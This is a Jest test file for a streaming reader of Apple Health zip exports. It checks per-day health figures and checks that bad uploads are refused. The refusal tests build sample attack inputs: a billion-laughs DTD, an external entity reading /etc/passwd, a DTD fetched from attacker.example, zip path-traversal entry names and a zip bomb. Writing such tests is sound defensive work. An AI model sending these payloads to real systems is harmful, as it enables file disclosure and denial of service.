import { describe, expect, it } from '@jest/globals';
import { strToU8, zipSync } from 'fflate';
import { EXPORT_LIMITS, readAppleHealthExport } from '@/lib/imports/apple-health-export';
import { ExportError } from '@/lib/imports/export-file';
import { bloodPressureXml, exportXml, exportZip, recordXml } from '../support/apple-health-export';
import { budget } from '../setup/machine-speed.js';

// The Apple Health export read as a stream: each local day's figures as the Health app shows them
// (lib/imports/apple-days.ts, lib/wearables/sleep-sessions.ts), and each kind of bad file refused.

const STEPS = 'HKQuantityTypeIdentifierStepCount';
const ENERGY = 'HKQuantityTypeIdentifierActiveEnergyBurned';
const SLEEP = 'HKCategoryTypeIdentifierSleepAnalysis';

/** The zip in chunks of `size` bytes, as an upload arrives. */
function* chunked(bytes: Uint8Array, size = 997): Generator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

const read = (bytes: Uint8Array, limits = EXPORT_LIMITS) => readAppleHealthExport(chunked(bytes), limits);
const problemOf = async (bytes: Uint8Array, limits = EXPORT_LIMITS) => {
  try {
    await read(bytes, limits);
    return 'read';
  } catch (error) {
    return error instanceof ExportError ? error.problem : `other: ${String(error)}`;
  }
};

describe('readAppleHealthExport', () => {
  it('gives each local day its figures: the Watch’s steps before the iPhone’s, mean resting rate and HRV, the latest weight and pressure, a night’s asleep minutes and stages', async () => {
    const xml = exportXml(
      [
        // 20 Nov: the Watch counted 6,000 steps, the iPhone 5,200 of the same walking: the Watch's, as the Health app shows.
        recordXml({ type: STEPS, value: 4000, unit: 'count', start: '2026-11-20 08:00:00 +0000' }),
        recordXml({ type: STEPS, value: 2000, unit: 'count', start: '2026-11-20 18:00:00 +0000' }),
        recordXml({ type: STEPS, value: 5200, unit: 'count', start: '2026-11-20 18:00:00 +0000', source: 'Alex’s iPhone' }),
        recordXml({ type: ENERGY, value: 418.4, unit: 'kJ', start: '2026-11-20 12:00:00 +0000' }), // 100 kcal
        recordXml({ type: ENERGY, value: 200, unit: 'kcal', start: '2026-11-20 13:00:00 +0000' }),
        recordXml({ type: 'HKQuantityTypeIdentifierRestingHeartRate', value: 55, unit: 'count/min', start: '2026-11-20 06:00:00 +0000' }),
        recordXml({ type: 'HKQuantityTypeIdentifierRestingHeartRate', value: 58, unit: 'count/min', start: '2026-11-20 20:00:00 +0000' }),
        recordXml({ type: 'HKQuantityTypeIdentifierHeartRateVariabilitySDNN', value: 42, unit: 'ms', start: '2026-11-20 03:00:00 +0000' }),
        recordXml({ type: 'HKQuantityTypeIdentifierBodyMass', value: 200, unit: 'lb', start: '2026-11-20 07:00:00 +0000', source: 'Withings' }),
        recordXml({ type: 'HKQuantityTypeIdentifierBodyMass', value: 89.5, unit: 'kg', start: '2026-11-20 21:00:00 +0000', source: 'Withings' }),
        recordXml({ type: 'HKQuantityTypeIdentifierVO2Max', value: 42.3, unit: 'mL/min·kg', start: '2026-11-20 10:00:00 +0000' }),
        bloodPressureXml(121, 79, '2026-11-20 09:00:00 +0000'),
        // A night that ends on the 21st: 5 h asleep in stages (3 h core, 2 h deep), 30 min awake, in bed from 23:30.
        recordXml({ type: SLEEP, value: 'HKCategoryValueSleepAnalysisInBed', start: '2026-11-20 23:30:00 +0000', end: '2026-11-21 06:00:00 +0000' }),
        recordXml({ type: SLEEP, value: 'HKCategoryValueSleepAnalysisAsleepCore', start: '2026-11-21 00:00:00 +0000', end: '2026-11-21 03:00:00 +0000' }),
        recordXml({ type: SLEEP, value: 'HKCategoryValueSleepAnalysisAwake', start: '2026-11-21 03:00:00 +0000', end: '2026-11-21 03:30:00 +0000' }),
        recordXml({ type: SLEEP, value: 'HKCategoryValueSleepAnalysisAsleepDeep', start: '2026-11-21 03:30:00 +0000', end: '2026-11-21 05:30:00 +0000' }),
        // Late evening in New York is the next day in UTC, and still the 21st where it was walked.
        recordXml({ type: STEPS, value: 300, unit: 'count', start: '2026-11-21 21:00:00 -0500' }),
        // Types the app does not read, and a step count no person walks in one sample, change nothing.
        recordXml({ type: 'HKQuantityTypeIdentifierDietaryWater', value: 500, unit: 'mL', start: '2026-11-20 12:00:00 +0000' }),
        recordXml({ type: STEPS, value: 5e6, unit: 'count', start: '2026-11-20 12:00:00 +0000', source: 'Broken app' }),
      ].join(''),
    );
    const reading = await read(exportZip(xml));
    expect(reading.records).toBe(22); // the Correlation's two Records counted, not used twice
    // Used: 3 step, 2 energy, 2 resting-rate, 1 HRV, 2 weight, 1 VO2 max, 2 pressure, 4 sleep and 1 New York record.
    expect(reading.used).toBe(18);
    expect([reading.first, reading.last]).toEqual(['2026-11-20', '2026-11-21']);
    expect(Object.fromEntries(reading.days)).toEqual({
      '2026-11-20': { steps: 6000, activeCaloriesKcal: 300, restingHeartRateBpm: 56.5, hrvMs: 42, weightKg: 89.5, systolicBpMmhg: 121, diastolicBpMmhg: 79, vo2Max: 42.3 },
      '2026-11-21': { steps: 300, sleepDurationMinutes: 300, sleepDeepMinutes: 120, sleepLightMinutes: 180, sleepRemMinutes: 0, sleepAwakeMinutes: 30 },
    });
    expect(reading.sources.get('Withings')).toBe(4);
  });

  it('reads the same whatever size the chunks arrive in', async () => {
    const zip = exportZip(exportXml(recordXml({ type: STEPS, value: 812, unit: 'count', start: '2026-11-20 08:00:00 +0000' })));
    const days = await Promise.all([1, 7, 64, 65_536].map(async (size) => Object.fromEntries((await readAppleHealthExport(chunked(zip, size))).days)));
    for (const result of days) expect(result).toEqual(days[0]);
  });

  it('refuses what is not an export: not a zip, a zip without export.xml, another XML, a cut-off file, a zip bomb', async () => {
    expect(await problemOf(strToU8('Testosterone 18 nmol/L'))).toBe('not_zip');
    expect(await problemOf(new Uint8Array(0))).toBe('not_zip');
    expect(await problemOf(zipSync({ 'photos/IMG_0001.txt': strToU8('hello') }))).toBe('not_export');
    expect(await problemOf(exportZip('<?xml version="1.0"?><Workbook><Sheet/></Workbook>'))).toBe('not_export');
    // The XML stops in the middle of a record.
    const full = exportXml(recordXml({ type: STEPS, value: 812, unit: 'count', start: '2026-11-20 08:00:00 +0000' }).repeat(50));
    expect(await problemOf(exportZip(full.slice(0, Math.floor(full.length / 2))))).toBe('truncated');
    // The zip itself cut off half way.
    const zip = exportZip(full);
    expect(await problemOf(zip.subarray(0, Math.floor(zip.length / 2)))).toBe('truncated');
    // A small file that inflates beyond the limit is refused as it inflates.
    const bomb = exportZip(exportXml(`<!-- ${' '.repeat(4_000_000)} -->`));
    expect(await problemOf(bomb, { maxXmlBytes: 1_000_000, maxRatio: 200 })).toBe('too_large');
  });

  // Each refused for what it is, so the member is told what was wrong (not that the file was cut short).
  it('refuses a DTD that declares entities (a billion laughs, an external entity) or names an outside DTD', async () => {
    const body = recordXml({ type: STEPS, value: 812, unit: 'count', start: '2026-11-20 08:00:00 +0000' });
    const laughs = `<?xml version="1.0"?><!DOCTYPE HealthData [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><HealthData locale="en_GB">${body}&lol3;</HealthData>`;
    const external = `<?xml version="1.0"?><!DOCTYPE HealthData [<!ENTITY secret SYSTEM "file:///etc/passwd">]><HealthData locale="en_GB">${body}<Note>&secret;</Note></HealthData>`;
    const outside = `<?xml version="1.0"?><!DOCTYPE HealthData SYSTEM "http://attacker.example/health.dtd"><HealthData locale="en_GB">${body}</HealthData>`;
    for (const xml of [laughs, external, outside]) expect(await problemOf(exportZip(xml))).toBe('unsafe_xml');
    // Apple's own internal DTD (elements and attribute lists) is read as before.
    expect(await problemOf(exportZip(exportXml(body)))).toBe('read');
  });

  it('refuses a zip whose entry names leave it, and one of more than 100,000 entries', async () => {
    const xml = strToU8(exportXml(recordXml({ type: STEPS, value: 812, unit: 'count', start: '2026-11-20 08:00:00 +0000' })));
    for (const name of ['../export.xml', 'apple_health_export/../../etc/cron.d/x', '/etc/passwd', 'C:/Windows/win.ini', 'a\\..\\b.csv']) {
      expect(await problemOf(zipSync({ 'apple_health_export/export.xml': xml, [name]: strToU8('x') }))).toBe('unsafe_names');
    }
    const many: Record<string, Uint8Array> = {};
    for (let i = 0; i <= 100_000; i += 1) many[`apple_health_export/workout-routes/route_${i}.gpx`] = new Uint8Array(0);
    many['apple_health_export/export.xml'] = xml;
    expect(await problemOf(zipSync(many, { level: 0 }))).toBe('too_many_files');
  }, budget(60_000));
});
